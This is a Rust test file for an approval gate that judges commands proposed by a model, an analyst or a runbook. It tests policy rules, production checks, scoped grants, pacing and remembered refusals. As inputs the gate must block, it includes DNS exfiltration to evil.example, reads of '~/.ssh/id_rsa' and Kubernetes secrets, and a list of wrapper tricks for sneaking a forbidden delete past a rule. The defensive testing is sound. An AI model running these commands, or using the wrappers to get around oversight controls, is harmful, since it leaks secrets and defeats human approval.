//! What policies, standing answers and what the gate remembers make of proposals.

use std::time::Duration;

use jiff::SignedDuration;
use midwatch::actions::gate::Beforehand;
use midwatch::actions::{Confirmation, Demand, Gate, policy};
use midwatch::config::load::check_text;
use midwatch::domain::approval::{Frozen, Target};
use midwatch::domain::{CleanText, Language, Origin, Proposal, TimeWindow, Timestamp, Verdict};

use super::setting::Setting;

const SHIPS: &str = "[[policy]]\nname = \"ships\"\ndecide = \"forbid\"\nwhy = \"the release team ships\"\ntool = [\"touch\"]\n\
                     match = [\"touch x\", \"sudo touch x\"]\nnot_match = [\"rm x\"]\n";
const SCRIPTS: &str = "[[policy]]\nname = \"scripts\"\ndecide = \"allow\"\nclass = [\"opaque\"]\ntool = [\"bash\"]\n\
                       match = [\"bash fix.sh\"]\nnot_match = [\"bash fix.sh; sh other.sh\"]\n";

fn gate(setting: &Setting, text: &str) -> Gate {
    let config = check_text(text).unwrap_or_else(|problems| panic!("{problems:?}"));
    let found = policy::load(&config, &setting.tables, &|_| None);
    assert_eq!(found.problems, []);
    Gate { policy: found.policy, ..Gate::default() }
}

fn never(gate: &Gate, proposal: &Proposal) -> String {
    match gate.demand(proposal) {
        Demand::Never { why } => why.to_string(),
        other => panic!("{other:?}"),
    }
}

fn in_production(mut proposal: Proposal) -> Proposal {
    proposal.target.production = Some(CleanText::line("prod-eu"));
    proposal
}

fn query(setting: &Setting, origin: Origin) -> Proposal {
    let mut proposal = setting.propose("df");
    let window = TimeWindow::new(Timestamp::UNIX_EPOCH, Timestamp::now());
    let source = CleanText::line("prom");
    proposal.suggestion.language = Language::Promql;
    proposal.suggestion.text = "up".to_owned();
    proposal.suggestion.origin = origin;
    proposal.target = Target {
        place: source.clone(),
        facts: Vec::new(),
        production: None,
        frozen: Frozen::Query { language: Language::Promql, window, step: 15, source },
    };
    proposal
}

fn waive(gate: &Gate, proposal: &Proposal, now: Timestamp) -> bool {
    let waived = gate.beforehand(proposal, now).is_some();
    let approved = gate.approve(proposal, &Gate::digest(proposal), &Confirmation::Beforehand, now);
    assert_eq!(waived, approved.is_ok(), "the gate takes a standing answer only where it says there is one");
    waived
}

#[test]
fn a_rule_forbids_by_name_and_the_strictest_wins() {
    let setting = Setting::new();
    let loose = SHIPS.replace("ships", "again").replace("forbid", "ask");
    let gate = gate(&setting, &format!("{loose}{SHIPS}"));
    let why = never(&gate, &setting.propose("ls; touch x"));
    assert!(why.contains("`ships` forbids it (your configuration): the release team ships"), "{why}");
    assert_eq!(gate.demand(&setting.propose("ls")), Demand::Enter);
}

#[test]
fn opaque_in_production_needs_a_rule_that_all_of_it_falls_under() {
    let setting = Setting::new();
    let scripts = in_production(setting.propose("bash fix.sh"));
    assert!(never(&Gate::default(), &scripts).contains("prod-eu is production"));
    let gate = gate(&setting, SCRIPTS);
    let words = ["run", "prod-eu"].map(str::to_owned).to_vec();
    assert_eq!(gate.demand(&scripts), Demand::TypeWords { words });
    for other in ["bash fix.sh | sh", "python3 fix.py"] {
        never(&gate, &in_production(setting.propose(other)));
    }
    // A rule never makes a class less than it is.
    assert_eq!(gate.demand(&setting.propose("touch x")), Demand::YThenEnter);
}

#[test]
fn an_organisation_that_cannot_be_read_leaves_only_reads() {
    let setting = Setting::new();
    let config = check_text("policy_file = \"/nonexistent/policy.toml\"").unwrap();
    let found = policy::load(&config, &setting.tables, &|_| None);
    assert_eq!(found.problems.len(), 1);
    let gate = Gate { policy: found.policy, ..Gate::default() };
    let why = never(&gate, &setting.propose("touch x"));
    assert!(why.contains("only reads run") && why.contains("/nonexistent/policy.toml"), "{why}");
    assert_eq!(gate.demand(&setting.propose("ls")), Demand::Enter);
}

#[test]
fn an_organisation_named_by_the_environment_is_heeded_beside_the_others() {
    let setting = Setting::new();
    let file = setting.folder.path().join("team.toml");
    std::fs::write(&file, SHIPS).unwrap();
    let env = |name: &str| (name == "MIDWATCH_POLICY").then(|| file.display().to_string());
    let found = policy::load(&check_text(SCRIPTS).unwrap(), &setting.tables, &env);
    let gate = Gate { policy: found.policy, ..Gate::default() };
    assert!(never(&gate, &setting.propose("touch x")).contains("team.toml"));
}

#[test]
fn telemetry_is_confirmed_beforehand_for_the_analysts_queries_and_nothing_else() {
    let setting = Setting::new();
    let now = Timestamp::now();
    let gate = gate(&setting, "telemetry = \"allow\"");
    assert_eq!(gate.beforehand(&query(&setting, Origin::Analyst), now), Some(Beforehand::Telemetry));
    assert!(waive(&gate, &query(&setting, Origin::Analyst), now));
    for origin in [Origin::Model, Origin::Person, Origin::Runbook] {
        assert!(!waive(&gate, &query(&setting, origin), now), "{origin:?}");
    }
    let mut command = setting.propose("df");
    command.suggestion.origin = Origin::Analyst;
    assert!(!waive(&gate, &command, now));
    assert!(!waive(&Gate::default(), &query(&setting, Origin::Analyst), now));
}

#[test]
fn a_grant_is_for_the_same_verb_in_the_same_place_and_ends() {
    let setting = Setting::new();
    setting.script("kubectl", "echo ran");
    let now = Timestamp::now();
    let later = |minutes| now.checked_add(SignedDuration::from_mins(minutes)).unwrap();
    let mut gate = Gate::default();
    let kube = |text: &str| setting.propose(&format!("kubectl --context dev -n shop {text}"));
    assert!(!waive(&gate, &kube("get pods"), now));
    let id = gate.grants.give(&kube("get pods"), now).unwrap();
    assert!(waive(&gate, &kube("get pods web-1"), now) && waive(&gate, &kube("get deploy"), later(14)));
    for other in
        ["describe pod web-1", "get pods -w; touch x", "delete pod web-1", "get pods | cat", "get secret x -o yaml"]
    {
        assert!(!waive(&gate, &kube(other), now), "{other}");
    }
    assert!(!waive(&gate, &setting.propose("kubectl --context prod-eu -n shop get pods"), now));
    assert!(!waive(&gate, &setting.propose("kubectl --context dev -n bank get pods"), now));
    assert!(!waive(&gate, &kube("get pods"), later(15)), "it ends after a quarter of an hour");
    let shown: Vec<String> = gate.grants.holding(now).map(|grant| grant.scope.words().to_string()).collect();
    assert_eq!(shown, ["kubectl get at kube context dev, namespace shop"]);
    assert!(gate.grants.revoke(id).is_some() && !waive(&gate, &kube("get pods"), now));
}

#[test]
fn nothing_but_a_plain_read_can_be_granted() {
    let setting = Setting::new();
    let now = Timestamp::now();
    let mut gate = Gate::default();
    setting.script("ping", "echo pong");
    setting.script("kubectl", "echo ran");
    for text in ["touch x", "rm x", "echo x | sh", "kubectl get secret x -o yaml"] {
        assert!(gate.grants.give(&setting.propose(text), now).is_err(), "{text}");
    }
    // What carries data away by its arguments, or is more than one plain command, is granted by its exact text.
    for (text, other) in [("ping -c 1 db1", "ping -c 1 db2"), ("df | head", "df | tail")] {
        gate.grants.give(&setting.propose(text), now).unwrap();
        assert!(waive(&gate, &setting.propose(text), now) && !waive(&gate, &setting.propose(other), now), "{text}");
    }
    let mut asks =
        self::gate(&setting, "[[policy]]\nname = \"df\"\ndecide = \"ask\"\ntool = [\"df\"]\nmatch = [\"df\"]");
    asks.grants.give(&setting.propose("df"), now).unwrap();
    assert!(!waive(&asks, &setting.propose("df"), now), "a rule that asks takes it back");
    let mut opaque = setting.propose("df");
    gate.grants.give(&opaque, now).unwrap();
    opaque.verdict = Verdict::opaque(2, "test", "unknown");
    assert!(!waive(&gate, &opaque, now));
}

#[test]
fn five_quick_yeses_make_the_next_card_ask_for_more() {
    let setting = Setting::new();
    let (read, write) = (setting.propose("df"), setting.propose("touch x"));
    let mut gate = Gate::default();
    for _ in 0..5 {
        assert_eq!(gate.demand(&read), Demand::Enter);
        gate.pace.confirmed(Duration::from_millis(1200));
    }
    assert_eq!(gate.demand(&read), Demand::YThenEnter);
    assert_eq!(gate.demand(&write), Demand::TypeWords { words: vec![Gate::digest(&write).tail().to_owned()] });
    gate.pace.confirmed(Duration::from_secs(9));
    assert_eq!(gate.demand(&read), Demand::Enter);
}

#[test]
fn a_model_does_not_get_to_offer_again_what_was_refused() {
    let setting = Setting::new();
    let mut gate = Gate::default();
    let by = |origin, text: &str| {
        let mut proposal = setting.propose(text);
        proposal.suggestion.origin = origin;
        proposal
    };
    gate.refusals.remember(&by(Origin::Model, "rm data"), "not yet".into(), Timestamp::UNIX_EPOCH);
    let again = gate.refusals.before(&by(Origin::Model, "rm   data")).map(|refused| refused.why.to_string());
    assert_eq!(again.as_deref(), Some("not yet"));
    assert_eq!(gate.refusals.before(&by(Origin::Model, "rm other")), None);
    assert_eq!(gate.refusals.before(&by(Origin::Person, "rm data")), None);
}

#[test]
fn a_rule_that_forbids_sees_through_wrappers_and_into_what_cannot_be_read() {
    let setting = Setting::new();
    for tool in ["kubectl", "docker", "git", "parallel", "ssh", "sudo", "env", "timeout"] {
        setting.script(tool, "echo ran");
    }
    let gate = gate(
        &setting,
        "[[policy]]\nname = \"no deletes\"\ndecide = \"forbid\"\ntool = [\"kubectl\"]\nverb = [\"delete\"]\n\
         match = [\"kubectl delete deploy x\", \"kubectl delete pod x\"]\nnot_match = [\"kubectl get pods\"]\n",
    );
    for text in [
        "kubectl delete pod x",
        "kubectl -n shop delete namespace x",
        "sudo timeout 5 kubectl delete pod x",
        "bash -c 'kubectl delete pod x'",
        "ssh h1 'sudo kubectl delete pod x'",
        "echo x | xargs kubectl delete pod",
        "K=kubectl; $K delete pod x",
        "$(echo kubectl) delete pod x",
        "alias k='kubectl delete'; k pod x",
        "env -S 'kubectl delete pod x'",
        "docker run --rm bitnami/kubectl delete pod x",
        "git bisect run kubectl delete pod x",
        "parallel kubectl delete pod ::: x",
        "python3 -c 'import os; os.system(\"kubectl delete pod x\")'",
        "f() { kubectl delete pod x; }; f",
    ] {
        let proposal = setting.propose(text);
        assert!(never(&gate, &proposal).contains("`no deletes` forbids"), "{text} {:?}", proposal.verdict);
    }
    for text in ["kubectl get pods", "echo delete", "bash fix.sh", "env -S 'kubectl get pods'"] {
        let demand = gate.demand(&setting.propose(text));
        assert!(!format!("{demand:?}").contains("no deletes"), "{text} {demand:?}");
    }
}

#[test]
fn a_grant_covers_no_other_address_whatever_tool_carries_it() {
    let setting = Setting::new();
    let pairs = [
        ("git ls-remote https://git.shop/a", "git ls-remote https://evil.example/a"),
        ("promtool query instant http://prom:9090 up", "promtool query instant http://evil.example up"),
        ("amtool alert --alertmanager.url=http://am:9093", "amtool alert --alertmanager.url=http://evil.example"),
        ("logcli query --addr=http://loki '{a=\"b\"}'", "logcli query --addr=http://evil.example '{a=\"b\"}'"),
        ("etcdctl --endpoints=e1:2379 endpoint health", "etcdctl --endpoints=evil.example:2379 endpoint health"),
        ("dig db1.shop", "dig c2VjcmV0.evil.example"),
        ("kubectl --context dev get pods", "kubectl --context prod-eu get pods"),
        ("kubectl -n a get pods", "kubectl -n b get pods"),
        ("kubectl -n a get pods", "kubectl -n a get pods -A"),
        ("kubectl -n a get pods", "kubectl -n a get secrets"),
        ("kubectl -n a get pods", "kubectl -n a logs web"),
        ("psql -h db1 -c 'select 1' shop", "psql -h db2 -c 'select 1' shop"),
        ("cat notes", "cat notes | grep x"),
        ("cat notes", "cat ~/.ssh/id_rsa"),
        ("cat notes", "sudo cat notes"),
    ];
    for tool in pairs.iter().filter_map(|(text, _)| text.split(' ').next()).chain(["sudo"]) {
        if tool != "cat" {
            setting.script(tool, "echo ran");
        }
    }
    let now = Timestamp::now();
    for (granted, other) in pairs {
        let (granted_for, asked) = (setting.propose(granted), setting.propose(other));
        let mut gate = Gate::default();
        if let Err(why) = gate.grants.give(&granted_for, now) {
            panic!("{granted}: {why}");
        }
        assert!(waive(&gate, &granted_for, now), "{granted}");
        assert!(!waive(&gate, &asked, now), "{granted} lets {other} run");
    }
    let mut gate = Gate::default();
    assert!(gate.grants.give(&setting.propose("cat notes"), now).is_ok());
    assert!(waive(&gate, &setting.propose("cat more"), now), "what stays here is what the grant says");
}
